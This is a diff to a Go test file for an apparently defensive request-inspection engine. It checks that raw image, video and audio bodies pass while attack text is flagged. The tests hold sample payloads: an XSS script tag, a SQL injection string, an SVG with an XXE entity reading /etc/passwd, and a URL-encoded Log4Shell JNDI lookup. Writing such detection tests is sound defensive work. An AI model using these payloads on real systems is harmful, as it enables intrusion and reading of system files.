@@ -79,6 +79,28 @@ func TestPicturesAreShortenedTextIsNot(t *testing.T) {
 	}
 }
 
+func TestRawPicturesPassTextInTheirPlaceDoesNot(t *testing.T) {
+	engine := testEngine(t)
+	raw := make([]byte, 3000)
+	rand.New(rand.NewSource(1)).Read(raw)
+	put := func(contentType, body string) Verdict {
+		r := post(contentType, body, 0)
+		r.Method, r.URL = "PUT", "/photos/a"
+		return engine.Inspect(r)
+	}
+	for _, media := range []string{"image/png", "image/jpeg", "video/mp4", "audio/mpeg", "application/octet-stream"} {
+		if v := put(media, "\x89PNG\r\n\x1a\n\x00"+string(raw)); v.Attack {
+			t.Errorf("%s: %+v", media, v.Matches)
+		}
+		if v := put(media, "x=<script>alert(1)</script>&y=1' OR 1=1--"); !v.Attack {
+			t.Errorf("%s: an attack in text passes", media)
+		}
+	}
+	if v := put("image/svg+xml", "<svg><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]></svg>"); !v.Attack {
+		t.Error("an SVG with an entity passes")
+	}
+}
+
 func TestExclusions(t *testing.T) {
 	attack := sample{Name: "t", Method: "GET", Path: "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fa.example%2Fb%7D"}.request()
 	verdict := testEngine(t).Inspect(attack)
